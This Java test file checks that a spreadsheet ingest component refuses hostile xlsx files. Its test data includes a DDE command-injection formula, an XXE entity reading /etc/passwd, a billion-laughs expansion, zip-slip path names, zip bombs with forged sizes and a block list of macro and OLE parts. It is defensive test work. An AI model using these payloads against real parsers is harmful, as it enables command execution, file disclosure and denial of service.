package org.rapporteur.ingest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.rapporteur.ingest.Workbook.number;
import static org.rapporteur.ingest.Workbook.row;
import static org.rapporteur.ingest.Workbook.text;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.rapporteur.workspace.TestWorkspace;

/// Files made to do harm: each is refused with its own code, and the file beside it is still read.
class HostileFilesTest {

  @TempDir Path folder;

  @Test
  void theHonestWorkbookThatTheOthersAreMadeFromIsRead() {
    Read read = read(honest());
    assertThat(read.codes()).isEmpty();
    assertThat(read.column("value")).containsExactly("22");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "xl/vbaProject.bin",
        "XL/VBAPROJECT.BIN",
        "innocent/vbaProject.bin",
        "xl/externalLinks/externalLink1.xml",
        "xl/embeddings/oleObject1.bin",
        "xl/activeX/activeX1.xml",
        "xl/ctrlProps/ctrlProp1.xml",
        "xl/macrosheets/sheet1.xml",
        "xl/queryTables/queryTable1.xml",
        "xl/connections.xml",
        "customUI/customUI14.xml"
      })
  void programsAndWaysOutAreRefusedByTheNameOfTheirPart(String part) {
    assertRefused(honest().part(part, "x").bytes(), "S-003 part");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "WEBSERVICE(\"http://example.org/?\"&amp;A2)",
        "webservice (A2)",
        "_xlfn.WEBSERVICE(A2)",
        "HYPERLINK(\"http://example.org\",\"22\")",
        "IMPORTDATA(\"http://example.org\")",
        "1+RTD(\"x\",,\"y\")",
        "cmd|'/c calc'!A1",
        "[1]Sheet1!A1",
        "'C:\\[other.xlsx]Sheet1'!A1"
      })
  void aFormulaThatReachesOutIsRefusedAtItsCell(String formula) {
    Workbook workbook = withFormula(formula);
    assertRefused(workbook.bytes(), "S-003 2 formula");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SUM(C3:C4)",
        "C3+C4",
        "IF(A3=\"WEBSERVICE(x)\",1,2)",
        "Table1[Total]",
        "MYIMAGE(1)",
        "LEFT(\"a|b!c\",1)"
      })
  void anOrdinaryFormulaIsReadByItsStoredResult(String formula) {
    Read read = read(withFormula(formula));
    assertThat(read.codes()).isEmpty();
    assertThat(read.column("value")).containsExactly("22");
  }

  @Test
  void aDocumentTypeIsRefusedWhateverItDeclares() {
    String outside = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>";
    String laughs =
        "<!DOCTYPE x [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;'>]>";
    for (String declaration : new String[] {outside, laughs, "<!DOCTYPE x>"}) {
      String sheet =
          declaration
              + "<worksheet><sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>&c;</t></is></c></row>"
              + "</sheetData></worksheet>";
      assertRefused(honest().part("xl/worksheets/sheet1.xml", sheet).bytes(), "S-005 doctype");
      assertRefused(
          honest().part("xl/sharedStrings.xml", declaration + "<sst/>").bytes(), "S-005 doctype");
    }
    byte[] wide = "<!DOCTYPE x><sst/>".getBytes(StandardCharsets.UTF_16);
    assertRefused(honest().part("xl/sharedStrings.xml", wide).bytes(), "S-005 doctype");
  }

  @ParameterizedTest
  @ValueSource(strings = {"../evil.xml", "xl/../../evil.xml"})
  void aPartThatClimbsIsRefused(String name) {
    assertRefused(honest().part(name, "x").bytes(), "S-005 climbs");
  }

  @Test
  void absoluteAndBackslashedPartsAreRefused() {
    assertRefused(honest().part("/etc/passwd", "x").bytes(), "S-005 absolute");
    assertRefused(honest().part("C:/evil.xml", "x").bytes(), "S-005 absolute");
    assertRefused(honest().part("xl\\evil.xml", "x").bytes(), "S-005 backslash");
  }

  @Test
  void aPartThatStandsTwiceIsRefused() {
    assertRefused(honest().part("XL/Workbook.xml", "x").bytes(), "S-005 twice");
    // The same name to the letter: written under another of the same length, then renamed.
    byte[] content = honest().part("xl/workbooq.xml", "x").bytes();
    assertRefused(renamed(content, "xl/workbooq.xml", "xl/workbook.xml"), "S-005 twice");
  }

  @Test
  void aBombIsRefusedByTheSizesInItsDirectory() {
    byte[] blanks = new byte[60_000_000];
    Arrays.fill(blanks, (byte) ' ');
    byte[] bomb = honest().part("xl/sharedStrings.xml", blanks).bytes();
    assertThat(bomb.length).isLessThan(100_000);
    assertRefused(bomb, "S-004 ratio");
  }

  @Test
  void aBombThatLiesAboutItsSizeIsRefusedWhileItUnpacks() {
    byte[] blanks = new byte[60_000_000];
    Arrays.fill(blanks, (byte) ' ');
    byte[] bomb = honest().part("xl/sharedStrings.xml", blanks).bytes();
    Read read = read(lying(bomb, 60_000_000, 120));
    assertThat(read.codes()).containsExactly("S-004 ratio");
  }

  @Test
  void tooManyPartsAreRefused() {
    Workbook workbook = honest();
    for (int i = 0; i < 500; i++) {
      workbook.part("xl/media/" + i, "x");
    }
    assertRefused(workbook.bytes(), "S-004 entries");
  }

  @Test
  void tooManyRowsAreRefusedAndRowsWithoutContentAreNotCounted() {
    StringBuilder rows = new StringBuilder();
    for (int i = 2; i <= 200_002; i++) {
      rows.append(row(i, number("C", i, "1")));
    }
    assertRefused(Workbook.of(rows.toString()).bytes(), "S-004 rows");
    StringBuilder empty = new StringBuilder(row(2, text("A", 2, "a")));
    for (int i = 3; i <= 250_000; i++) {
      empty.append("<row r='").append(i).append("'/>");
    }
    Read read = read(Workbook.of(empty.toString()));
    assertThat(read.codes()).isEmpty();
    assertThat(read.table().rows()).isEqualTo(1);
  }

  @Test
  void tooManyColumnsAndTooLongCellsAreRefused() {
    assertRefused(Workbook.of(row(2, number("XFD", 2, "1"))).bytes(), "S-004 columns");
    assertRefused(Workbook.of(row(2, text("A", 2, "x".repeat(32_768)))).bytes(), "S-004 cell");
  }

  @Test
  void emptyTruncatedAndEncryptedFilesCannotBeOpened() {
    byte[] whole = honest().bytes();
    assertRefused(new byte[0], "S-001 empty");
    assertRefused(Arrays.copyOf(whole, whole.length / 2), "S-001 truncated");
    byte[] encrypted = new byte[4096];
    System.arraycopy(ole(), 0, encrypted, 0, 8);
    byte[] name = "EncryptedPackage".getBytes(StandardCharsets.UTF_16LE);
    System.arraycopy(name, 0, encrypted, 1024, name.length);
    assertRefused(encrypted, "S-001 encrypted");
  }

  @Test
  void contentThatIsNoWorkbookIsRefused() {
    assertRefused("indicator,period\n".getBytes(StandardCharsets.UTF_8), "S-002");
    assertRefused(Arrays.copyOf(ole(), 4096), "S-002");
    assertRefused("%PDF-1.7".getBytes(StandardCharsets.US_ASCII), "S-002");
    byte[] document = honest().bytes();
    assertRefused(renamed(document, "xl/workbook.xml", "wd/workbook.xml"), "S-002");
  }

  @Test
  void aPartThatIsNotWellFormedIsRefused() {
    assertRefused(
        honest().part("xl/worksheets/sheet1.xml", "<worksheet><sheetData>").bytes(), "S-001 xml");
    assertRefused(
        Workbook.of("<row r='2'><c r='A2' t='s'><v>99</v></c></row>").bytes(), "S-001 xml");
    assertRefused(Workbook.of("<row r='-1'/>").bytes(), "S-001 xml");
    assertRefused(
        Workbook.of("<row r='2'><c r='A2'><v>1e999999999</v></c></row>").bytes(), "S-001 xml");
  }

  private void assertRefused(byte[] content, String code) {
    Read read = read(content);
    assertThat(read.codes()).containsExactly(code);
    assertThat(read.submissions().getFirst().tables())
        .as("the table of the file beside it")
        .hasSize(1)
        .first()
        .satisfies(table -> assertThat(table.file()).isEqualTo("good.csv"));
  }

  private Read read(Workbook workbook) {
    return Read.file(folder, "f.xlsx", workbook.bytes());
  }

  private Read read(byte[] content) {
    return Read.of(
        new TestWorkspace(folder)
            .source(2024, "p", "police", "f.xlsx, good.csv", "")
            .file("f.xlsx", content)
            .file("good.csv", "indicator,period,value,unit\n"));
  }

  private static Workbook honest() {
    return Workbook.of(
        row(2, text("A", 2, "victims-identified"), text("B", 2, "2023"), number("C", 2, "22")));
  }

  private static Workbook withFormula(String formula) {
    return Workbook.of(row(2, text("A", 2, "x"), "<c r='C2'><f>" + formula + "</f><v>22</v></c>"));
  }

  private static byte[] ole() {
    return new byte[] {
      (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1
    };
  }

  /// Replaces a name by another of the same length, in local headers and directory alike.
  private static byte[] renamed(byte[] zip, String from, String to) {
    String text = new String(zip, StandardCharsets.ISO_8859_1);
    return text.replace(from, to).getBytes(StandardCharsets.ISO_8859_1);
  }

  /// States another size wherever the true one stands as four bytes, lowest first.
  private static byte[] lying(byte[] zip, int size, int stated) {
    String from = bytes(size);
    String text = new String(zip, StandardCharsets.ISO_8859_1);
    assertThat(text).contains(from);
    return text.replace(from, bytes(stated)).getBytes(StandardCharsets.ISO_8859_1);
  }

  private static String bytes(int number) {
    StringBuilder text = new StringBuilder();
    for (int shift = 0; shift < 32; shift += 8) {
      text.append((char) ((number >> shift) & 0xFF));
    }
    return text.toString();
  }
}
